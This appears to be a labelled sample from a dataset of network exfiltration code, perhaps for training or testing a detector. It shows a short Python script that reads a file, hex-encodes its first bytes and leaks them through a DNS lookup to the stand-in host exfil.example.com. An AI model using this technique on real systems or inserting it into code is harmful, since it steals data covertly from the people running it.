# category: network
# obfuscated: no
import socket, binascii
secret = open("data.txt", "rb").read(30)
label = binascii.hexlify(secret).decode()
socket.gethostbyname(f"{label}.exfil.example.com")
